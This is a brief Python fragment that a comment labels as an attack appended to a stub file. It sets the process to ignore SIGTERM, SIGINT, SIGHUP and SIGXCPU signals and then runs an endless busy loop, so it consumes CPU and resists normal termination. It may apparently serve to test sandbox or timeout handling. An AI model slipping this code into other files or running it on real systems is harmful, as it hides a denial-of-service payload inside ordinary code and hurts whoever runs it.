

# --- the attack, appended to the stub --------------------------------------

import signal as _signal

for _sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGXCPU):
    _signal.signal(_sig, _signal.SIG_IGN)
while True:
    pass
